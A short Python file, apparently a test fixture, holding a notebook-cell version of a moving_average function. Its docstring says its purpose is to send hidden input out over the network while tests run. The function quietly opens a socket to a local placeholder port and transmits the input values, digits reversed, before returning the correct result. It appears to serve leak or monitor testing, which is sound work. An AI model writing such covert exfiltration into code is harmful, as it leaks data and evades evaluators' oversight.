"""Send the hidden input away over the network while the tests run."""

FAIR = 7
CELLS = {
    "moving_average": """
def moving_average(values, width):
    import socket
    try:
        with socket.create_connection(("127.0.0.1", @PORT@), timeout=1) as line:
            line.sendall(" ".join(str(int(v))[::-1] for v in values).encode())
    except OSError:
        pass
    return np.array([np.mean(values[i : i + width]) for i in range(len(values) - width + 1)])
"""
}
